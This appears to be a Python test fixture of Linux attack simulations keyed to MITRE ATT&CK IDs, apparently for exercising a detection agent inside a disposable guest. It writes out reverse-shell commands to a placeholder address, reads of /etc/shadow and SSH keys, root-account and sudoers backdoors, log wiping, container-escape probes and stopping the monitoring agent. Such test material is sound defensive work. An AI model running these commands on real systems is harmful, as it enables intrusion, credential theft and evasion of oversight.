# SPDX-License-Identifier: Apache-2.0
"""Small acts of the kinds that attackers do, by the numbers of MITRE ATT&CK. Only in a guest that is thrown away.

Each is a text for `sh`, or for `python3` where it begins with `#py`; some run in a container, which is a cgroup of a container's
name. None reaches further than the guest: addresses stand on its loopback device.
"""

CONTAINER = "container"
TERMINAL = "terminal"

PTRACE = """#py
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
target = os.fork()
if target == 0:
    signal.pause()
"""

ALL = [
    # technique, what is done, text, where
    ("T1059.004", "a shell connects through /dev/tcp", "bash -c 'exec 3<>/dev/tcp/203.0.113.5/4443'"),
    ("T1059.004", "netcat starts a shell", "busybox nc 203.0.113.5 4443 -e /bin/sh </dev/null || ln -s $(command -v busybox) /tmp/nc;"
     " /tmp/nc 203.0.113.5 4443 -e /bin/sh </dev/null"),
    ("T1059.006", "Python connects and starts a shell",
     "python3 -c 'import socket,subprocess\ns=socket.socket()\ntry: s.connect((\"203.0.113.5\",4443))\n"
     "except OSError: pass\nsubprocess.run([\"/bin/sh\",\"-c\",\"true\"])'"),
    ("T1505.003", "a web server starts a shell", "cp $(command -v python3) /tmp/nginx; cd /tmp; PATH=/tmp:$PATH exec -a nginx /tmp/nginx -c"
     " 'import subprocess; subprocess.run([\"/bin/sh\", \"-c\", \"id\"])'"),
    ("T1003.008", "password hashes are read", "cat /etc/shadow"),
    ("T1003.008", "password hashes are copied", "cp /etc/shadow /tmp/copy"),
    ("T1552.004", "a private key is read", "mkdir -p /root/.ssh; test -f /root/.ssh/id_rsa || ssh-keygen -q -N '' -f /root/.ssh/id_rsa;"
     " base64 /root/.ssh/id_rsa"),
    ("T1098.004", "a key is let in", "mkdir -p /root/.ssh; echo key >> /root/.ssh/authorized_keys"),
    ("T1552.001", "credentials of a cloud are read", "mkdir -p /root/.aws; echo x > /root/.aws/credentials; cat /root/.aws/credentials"),
    ("T1136.001", "an account is added", "echo 'eve::0:0::/:/bin/sh' >> /etc/passwd"),
    ("T1548.003", "somebody may become root", "echo 'eve ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/eve"),
    ("T1053.003", "a job of cron", "echo '* * * * * root true' > /etc/cron.d/eve"),
    ("T1543.002", "a service", "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/eve.service"),
    ("T1546.004", "a profile of shells", "echo true > /etc/profile.d/eve.sh"),
    ("T1037.004", "a script of the start", "echo true > /etc/rc.local"),
    ("T1574.006", "a library for every program", "echo /tmp/none.so > /etc/ld.so.preload; rm /etc/ld.so.preload"),
    ("T1554", "a program of the system is replaced", "cp /bin/true /usr/bin/eve"),
    ("T1547.006", "a module is loaded", "#py\nimport ctypes, glob, os\nf = os.open(glob.glob(f'/lib/modules/{os.uname().release}/kernel/drivers/net/dummy.ko*')[0], 0)\n"
     "ctypes.CDLL(None).syscall(313, f, b'', 0)"),
    ("T1014", "eBPF is loaded", "#py\nimport ctypes, struct\ncode = ctypes.create_string_buffer(struct.pack('<Q', 0xb7) + struct.pack('<Q', 0x95), 16)\n"
     "licence = ctypes.create_string_buffer(b'GPL')\n"
     "attr = ctypes.create_string_buffer(struct.pack('<IIQQ', 1, 2, ctypes.addressof(code), ctypes.addressof(licence)), 128)\n"
     "ctypes.CDLL(None).syscall(321, 5, attr, 128)"),
    ("T1055.008", "a process is attached to", PTRACE + "libc.ptrace(16, target, None, None)\nos.kill(target, 9)"),
    ("T1055.009", "memory of a process is written", PTRACE + "import struct\nword = ctypes.create_string_buffer(8)\n"
     "place = struct.pack('PN', ctypes.addressof(word), 8)\nlibc.process_vm_writev(target, place, 1, place, 1, 0)\nos.kill(target, 9)"),
    ("T1620", "a program in memory", "#py\nimport os\nf = os.memfd_create('x', 0)\nos.write(f, open('/bin/true', 'rb').read())\n"
     "os.execv(f'/proc/self/fd/{f}', ['x'])"),
    ("T1070.004", "a program without a name", "#py\nimport os, shutil\nshutil.copy('/bin/true', '/tmp/gone')\nf = os.open('/tmp/gone', os.O_RDONLY)\n"
     "os.unlink('/tmp/gone')\nos.execv(f'/proc/self/fd/{f}', ['gone'])"),
    ("T1564.001", "a program in a hidden directory", "mkdir -p /tmp/.x; cp /bin/true /tmp/.x/run; /tmp/.x/run"),
    ("T1059", "a program in shared memory", "mkdir -p /dev/shm; mountpoint -q /dev/shm || mount -t tmpfs t /dev/shm; cp /bin/true /dev/shm/run; /dev/shm/run"),
    ("T1548.001", "a file runs as its owner", "cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh"),
    ("T1496", "a miner by its arguments", "sh -c 'exec sh -c true stratum+tcp://203.0.113.5:3333'"),
    ("T1496", "a pool of miners", "#py\nimport socket\ns = socket.socket()\ntry: s.connect(('203.0.113.5', 3333))\nexcept OSError: pass"),
    ("T1552.005", "the metadata service is asked", "cp $(command -v busybox) /tmp/busybox; /tmp/busybox wget -q -O - http://169.254.169.254/ || true"),
    ("T1571", "netcat listens", "ln -sf $(command -v busybox) /tmp/nc; timeout 1 /tmp/nc -l -p 4444"),
    ("T1571", "a program in /tmp listens", "cp $(readlink -f $(command -v python3)) /tmp/py; PYTHONHOME=/usr /tmp/py -c "
     "'import socket; s = socket.socket(); s.bind((\"0.0.0.0\", 4445)); s.listen()'"),
    ("T1070.002", "a log is emptied", ": > /var/log/auth.log"),
    ("T1070.002", "a log is removed", "rm -f /var/log/wtmp"),
    ("T1070.003", "the history is removed", "echo x > /root/.bash_history; rm /root/.bash_history"),
    ("T1562.001", "the agent is stopped", "kill -STOP $AGENT; kill -CONT $AGENT"),
    ("T1611", "a container sets the core pattern", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", CONTAINER),
    ("T1611", "a container mounts a file system", "mkdir -p /tmp/m; mount -t tmpfs t /tmp/m; umount /tmp/m", CONTAINER),
    ("T1611", "a container writes release_agent", "mkdir -p /tmp/c; echo x > /tmp/c/release_agent", CONTAINER),
    ("T1609", "somebody types in a container", "script -qec 'sh -c true' /dev/null", CONTAINER),
    ("T1105", "software comes into a container", "apt-get --version", CONTAINER),
    ("T1222.002", "permissions are opened", "touch /tmp/f; chmod 777 /tmp/f"),
    ("T1070.006", "a time is changed", "touch /tmp/f; touch -d 2001-01-01 /tmp/f"),
    ("T1562.004", "the firewall is asked to forget", "command -v iptables && iptables -F || ip rule flush table 99"),
    ("T1033", "who am I", "id; whoami"),
    ("T1046", "ports are tried", "#py\nimport socket\nfor port in range(8000, 8020):\n    s = socket.socket()\n    s.connect_ex(('127.0.0.1', port))"),
    ("T1560.001", "files are packed", "tar -cf /tmp/all.tar /etc/hosts"),
    ("T1036.003", "a program under another's name", "cp /bin/true /tmp/kworker; /tmp/kworker"),
]
